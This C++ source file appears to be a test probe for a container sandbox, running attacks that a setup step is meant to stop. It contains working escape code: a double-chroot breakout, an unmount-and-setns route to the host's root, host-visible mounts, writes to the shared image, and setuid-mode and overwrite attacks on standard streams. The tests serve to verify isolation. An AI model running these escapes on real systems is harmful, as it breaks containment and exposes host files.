// The attacks that step 05 stops. They leave a chroot, unmount their root, make
// mounts that the host sees, write to the image, and change files that are
// standard streams.

#include <sched.h>
#include <sys/stat.h>

#include "steps/probe.hpp"

namespace {

// A second chroot(2) replaces the root directory and does not change the
// working directory. The working directory is then above the root directory, so
// the way up by .. ends only at the host's root. After pivot_root(2), no
// directory of the host is above.
probe::Answer chroot2(const std::string& file) {
  const char* const door = "/tmp/door";
  if (::mkdir(door, 0755) == -1 && errno != EEXIST)
    return probe::refused("make a directory");
  if (::chdir("/") == -1) return probe::refused("enter /");
  if (::chroot(door) == -1) return probe::refused("chroot a second time");
  for (int i = 0; i < 64; ++i)
    if (::chdir("..") == -1) return probe::refused("go up");
  if (::chroot(".") == -1) return probe::refused("chroot to the top");
  const std::string what = "chroot below, go up 64 times, open the file: ";
  const int fd = ::open(file.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd != -1) return probe::done(what + probe::first_line(fd));
  if (errno == ENOENT && ::access("/etc/rootfs-mark", F_OK) == 0)
    return probe::done(what + "ENOENT; the top is its own /");
  return probe::refused(what + "it is not there");
}

// A mount hides what it lies on. If the root is such a mount, and not the root
// of the mount table, umount2(2) removes it. Then setns(2) to the own mount
// namespace leads to the root of the table, which is the host's.
probe::Answer unmount(const std::string& file) {
  if (!probe::has_proc()) return probe::refused("mount /proc");
  const int table = ::open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
  if (table == -1) return probe::refused("open its mount namespace");
  std::string what = "unmount /";
  if (::umount2("/", MNT_DETACH) == -1) what += ": " + probe::errno_name();
  what += "; enter its own mount namespace again";
  if (::setns(table, CLONE_NEWNS) == -1) return probe::refused(what);
  what += ", open the file: ";
  const int fd = ::open(file.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd != -1) return probe::done(what + probe::first_line(fd));
  if (errno == ENOENT && ::access("/etc/rootfs-mark", F_OK) == 0)
    return probe::done(what + "ENOENT; its root is the root of the table");
  return probe::refused(what + "it is not there");
}

// All processes in a mount namespace see its mounts.
probe::Answer mount(const std::string& name) {
  const auto what = "mount a tmpfs named " + name + " on /mnt";
  if (::mount(name.c_str(), "/mnt", "tmpfs", 0, nullptr) == -1)
    return probe::refused(what);
  return probe::done(what);
}

// The next container of the image would find the file.
probe::Answer image(const std::string& name) {
  for (const std::string directory : {"/", "/tmp/"})
    if (::open((directory + name).c_str(), O_CREAT | O_EXCL, 0644) != -1)
      return probe::done("make the file " + directory + name);
  return probe::refused("make the files /" + name + " and /tmp/" + name);
}

// A descriptor needs no path, so another root directory does not help. By the
// descriptor, a process can change the mode of the file, truncate it, and open
// it again for writing.
probe::Answer stream(const std::string&) {
  std::string what;
  const auto note = [&](const std::string& attempt, bool is_done) {
    if (is_done) what += (what.empty() ? "" : ", ") + attempt;
  };
  const bool has_proc = probe::has_proc();
  for (const int number : {STDIN_FILENO, STDERR_FILENO}) {
    const auto name = "/proc/self/fd/" + std::to_string(number);
    note("chmod 4777 " + name, ::fchmod(number, 04777) == 0);
    note("truncate " + name, ::ftruncate(number, 0) == 0);
    if (!has_proc) continue;
    const int again = ::open(name.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC);
    note("write to " + name, again != -1 && ::write(again, "evil\n", 5) == 5);
    (void)::close(again);  // It might be the other end of our input.
  }
  return what.empty() ? probe::refused("chmod, truncate or write to streams")
                      : probe::done(what);
}

}  // namespace

int main(int argc, char** argv) {
  return probe::run(argc, argv,
                    {{"chroot2", chroot2},
                     {"unmount", unmount},
                     {"mount", mount},
                     {"image", image},
                     {"stream", stream}});
}
